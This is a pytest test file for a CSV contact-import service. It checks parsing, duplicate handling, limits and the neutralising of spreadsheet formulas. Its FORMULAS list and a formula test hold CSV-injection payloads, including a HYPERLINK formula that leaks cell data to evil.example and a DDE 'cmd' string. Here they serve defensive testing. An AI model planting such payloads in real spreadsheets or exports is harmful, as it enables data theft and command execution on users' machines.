"""CSV import on real PostgreSQL: the files people actually upload, with exact counts and error lines."""

from __future__ import annotations

import csv
import io
import time
import uuid
from pathlib import Path

import pytest
from sqlmodel import Session, select

from reachimpact.errors import Invalid
from reachimpact.models import Contact
from reachimpact.services.contact_import import DuplicatePolicy, import_contacts
from tests.factories import make_member


def write(tmp_path: Path, text: str, encoding: str = "utf-8", name: str = "contacts.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def run(path: Path, org, policy: DuplicatePolicy = DuplicatePolicy.SKIP, parallel: bool = False):
    errors = io.StringIO()
    result = import_contacts(
        path, organization_id=org, on_duplicate=policy, errors_out=errors, parallel=parallel
    )
    return result, list(csv.reader(io.StringIO(errors.getvalue())))


def contacts(session: Session, org) -> dict[str, Contact]:
    session.expire_all()
    return {c.phone: c for c in session.exec(select(Contact).where(Contact.organization_id == org))}


NASTY = (
    "\ufeffFirst Name;Last Name;Phone Number;E-mail;Tags;Favourite Colour\n"
    'Ann;Lee;(555) 010-2030;ann@example.org;"volunteer, donor";blue\n'
    "\n"
    'Bob;"Smith\nJr";+44 20 7946 0958;BOB@Example.ORG;;\n'
    "Cy;Doe;555-0100 ext 12;cy@example.org;;green\n"
    "Dee;Ray;(212) 555-0143;not-an-email;;\n"
    "Eve;Fox;212.555.0143;eve@example.org;press;red\n"
    "Gil;Ho;2125550199;gil@example.org\n"
    "Ida;Ng;(415) 555-0100 x7;ida@example.org;;;extra\n"
    "Ann;Lee;555 010 2030;ann2@example.org;;\n"
    " ; ; ; ; ; \n"
    "Jo;Park;(212) 555-0143;jo@example.org;;yellow\n"
)


def test_nasty_csv_gives_exact_counts_and_error_lines(tmp_path: Path, session: Session) -> None:
    member = make_member(session)
    result, errors = run(write(tmp_path, NASTY), member.organization_id)

    assert (result.imported, result.updated, result.skipped, result.rejected) == (3, 0, 2, 4)
    assert errors[0] == [
        "line",
        "error",
        "First Name",
        "Last Name",
        "Phone Number",
        "E-mail",
        "Tags",
        "Favourite Colour",
    ]
    assert [(row[0], row[1]) for row in errors[1:]] == [
        ("6", "Phone '555-0100 ext 12' is missing its area code."),
        ("7", "Email 'not-an-email' is not valid."),
        ("9", "Expected 6 columns, found 4."),
        ("10", "Expected 6 columns, found 7."),
    ]
    rows = contacts(session, member.organization_id)
    assert set(rows) == {"+15550102030", "+442079460958", "+12125550143"}
    ann = rows["+15550102030"]
    assert (ann.first_name, ann.email, ann.tags) == ("Ann", "ann@example.org", ["volunteer", "donor"])
    assert ann.custom_fields == {"Favourite Colour": "blue"}  # unknown columns are kept, never dropped
    bob = rows["+442079460958"]
    assert (
        bob.last_name == "Smith\nJr" and bob.email == "bob@example.org" and bob.time_zone == "Europe/London"
    )
    # Line 8 and line 13 repeat line 8's number: the first one in the file wins.
    assert rows["+12125550143"].first_name == "Eve" and rows["+12125550143"].time_zone == "America/New_York"


def test_latin1_and_tab_delimited(tmp_path: Path, session: Session) -> None:
    member = make_member(session)
    path = write(
        tmp_path, "Name\tmobile\tEmail\nRené\t+33 1 42 68 53 00\trene@example.fr\n", encoding="latin-1"
    )
    result, _ = run(path, member.organization_id)
    assert result.imported == 1
    (rene,) = contacts(session, member.organization_id).values()
    assert rene.first_name == "René"  # a one-word name goes to the first name
    assert rene.custom_fields == {}


def test_duplicates_against_existing_contacts_follow_the_policy(tmp_path: Path, session: Session) -> None:
    member = make_member(session)
    org = member.organization_id
    session.add(
        Contact(
            organization_id=org,
            phone="+12125550143",
            first_name="Old",
            email="old@example.org",
            tags=["donor"],
            custom_fields={"ward": "3"},
        )
    )
    session.commit()
    path = write(
        tmp_path, "phone,first_name,tags,ward,shift\n212-555-0143,New,volunteer,,Sat\n415-555-0100,Pat,,,\n"
    )

    skipped, _ = run(path, org, DuplicatePolicy.SKIP)
    assert (skipped.imported, skipped.updated, skipped.skipped) == (1, 0, 1)
    assert contacts(session, org)["+12125550143"].first_name == "Old"

    updated, _ = run(path, org, DuplicatePolicy.UPDATE)
    assert (updated.imported, updated.updated, updated.skipped) == (0, 2, 0)
    existing = contacts(session, org)["+12125550143"]
    assert existing.first_name == "New"
    assert existing.email == "old@example.org"  # an empty cell does not erase what we know
    assert sorted(existing.tags) == ["donor", "volunteer"]
    assert existing.custom_fields == {"ward": "3", "shift": "Sat"}


def test_file_without_a_phone_column_fails_at_once_naming_the_columns(
    tmp_path: Path, session: Session
) -> None:
    member = make_member(session)
    path = write(tmp_path, "Name,Email,City\nAnn,ann@example.org,Austin\n")
    with pytest.raises(
        Invalid, match=r"No phone column found\. Columns in the file: 'Name', 'Email', 'City'"
    ):
        run(path, member.organization_id)
    assert contacts(session, member.organization_id) == {}


def test_parsing_in_a_child_process_gives_the_same_result(tmp_path: Path, session: Session) -> None:
    member = make_member(session)
    lines = ["first,last,phone,email"] + [
        f"P{i},Q{i},(212) 555-{i:04d},p{i}@example.org" for i in range(3000)
    ]
    lines += ["Bad,Row,12,x@example.org", "Dup,Row,(212) 555-0001,"]
    result, errors = run(write(tmp_path, "\n".join(lines) + "\n"), member.organization_id, parallel=True)
    assert (result.imported, result.skipped, result.rejected) == (3000, 1, 1)
    assert errors[1][0] == "3002"
    assert len(contacts(session, member.organization_id)) == 3000


def test_imported_contacts_get_time_ordered_ids(tmp_path: Path, session: Session) -> None:
    # UUIDv7's layout (Unix milliseconds first) keeps the import's inserts at the primary key's right edge.
    member = make_member(session)
    before_ms = int(time.time() * 1000)
    result, _ = run(write(tmp_path, "phone\n212-555-0101\n212-555-0102\n"), member.organization_id)
    after_ms = int(time.time() * 1000)
    assert result.imported == 2
    for contact in contacts(session, member.organization_id).values():
        assert contact.id.version == 7 and contact.id.variant == uuid.RFC_4122
        assert before_ms <= contact.id.int >> 80 <= after_ms


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd",
    "\tTAB",
]


def test_formulas_are_neutralised_in_the_errors_csv(tmp_path: Path, session: Session) -> None:
    member = make_member(session)
    text = "phone,first_name,=evil()\n=1+1,Ann,x\n+14155550123,@cmd,y\n+1 (415) 555,Bob,+14155550124\n"
    result, errors = run(write(tmp_path, text), member.organization_id)
    assert result.imported == 1 and result.rejected == 2
    assert errors[0] == ["line", "error", "phone", "first_name", "'=evil()"]
    # The rejected rows come back with their formulas quoted; only a phone column's E.164 number stays.
    assert errors[1][2:] == ["'=1+1", "Ann", "x"]
    assert errors[2][2:] == ["'+1 (415) 555", "Bob", "'+14155550124"]
    # What was imported is kept as it was written.
    assert contacts(session, member.organization_id)["+14155550123"].first_name == "@cmd"


def test_an_export_reimports_unchanged(tmp_path: Path, session: Session) -> None:
    from reachimpact.services import contacts as contact_service

    owner = make_member(session)
    for n, value in enumerate(FORMULAS):
        session.add(
            Contact(
                organization_id=owner.organization_id,
                phone=f"+1415555{n:04d}",
                first_name=value,
                last_name="=2*3",
                custom_fields={"=evil()": value},
            )
        )
    session.commit()
    exported = "".join(contact_service.export_csv(session, owner))
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[0][-1] == "'=evil()"
    for row in rows[1:]:
        # No cell starts a formula, and phones stay plain numbers.
        assert not any(
            cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row if not cell.startswith("+1415")
        )
        assert row[2].startswith("+1415555")

    other = make_member(session, org_name="Re-import")
    result, errors = run(write(tmp_path, exported), other.organization_id)
    assert (result.imported, result.rejected) == (len(FORMULAS), 0), errors
    back = contacts(session, other.organization_id)
    for n, value in enumerate(FORMULAS):
        contact = back[f"+1415555{n:04d}"]
        assert (contact.first_name, contact.last_name) == (value.strip(), "=2*3")
        assert contact.custom_fields["=evil()"] == value.strip()


def test_a_header_of_ten_thousand_columns_is_refused_saying_why(tmp_path: Path, session: Session) -> None:
    member = make_member(session)
    header = "phone," + ",".join(f"column_{n}" for n in range(10_000))
    path = write(tmp_path, header + "\n+14155550123" + "," * 10_000 + "\n")
    with pytest.raises(Invalid, match="at most 200 columns"):
        run(path, member.organization_id)
    wide = "phone," + ",".join(f"c{n}" for n in range(250))
    with pytest.raises(Invalid, match="250|251"):
        run(write(tmp_path, wide + "\n+14155550123" + "," * 250 + "\n"), member.organization_id)


def test_custom_field_limits_hold_in_a_file(tmp_path: Path, session: Session) -> None:
    member = make_member(session)
    many = "phone," + ",".join(f"c{n}" for n in range(101))
    with pytest.raises(Invalid, match="at most 100"):
        run(write(tmp_path, many + "\n+14155550123" + "," * 101 + "\n"), member.organization_id)
    with pytest.raises(Invalid, match="64 characters"):
        run(write(tmp_path, "phone," + "n" * 65 + "\n+14155550123,x\n"), member.organization_id)
    result, errors = run(
        write(tmp_path, f"phone,favourite\n+14155550123,{'x' * 1001}\n+14155550124,ok\n"),
        member.organization_id,
    )
    assert (result.imported, result.rejected) == (1, 1)
    assert "longer than 1,000 characters" in errors[1][1]


@pytest.mark.parametrize("parallel", [False, True])
def test_an_unterminated_quote_is_reported_with_its_line(
    tmp_path: Path, session: Session, parallel: bool
) -> None:
    member = make_member(session)
    text = 'phone,first_name\n+14155550123,Ann\n+14155550124,"Bob\n' + "x" * 200_000 + "\n"
    with pytest.raises(Invalid, match=r"Line 3 .*quote"):
        run(write(tmp_path, text), member.organization_id, parallel=parallel)


def test_a_file_past_the_size_cap_is_refused_saying_so(
    tmp_path: Path, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reachimpact.services import contact_import

    # The real cap is 200 MB; the rule is the same with 1 KB, without writing 200 MB to disk.
    monkeypatch.setattr(contact_import, "MAX_FILE_BYTES", 1024)
    member = make_member(session)
    rows = "".join(f"+1415555{n:04d}\n" for n in range(200))
    with pytest.raises(Invalid, match="is larger than"):
        run(write(tmp_path, "phone\n" + rows), member.organization_id)
    assert contacts(session, member.organization_id) == {}


def test_a_nul_character_rejects_its_row_and_keeps_the_others(tmp_path: Path, session: Session) -> None:
    member = make_member(session)
    path = tmp_path / "nul.csv"
    path.write_bytes(b"phone,first_name\n+14155550123,A\x00nn\n+14155550124,Bo\n")
    result, errors = run(path, member.organization_id)
    assert (result.imported, result.rejected) == (1, 1)
    assert errors[1][:2] == ["2", "Column 'first_name' contains the NUL character (\\u0000)."]
    assert set(contacts(session, member.organization_id)) == {"+14155550124"}
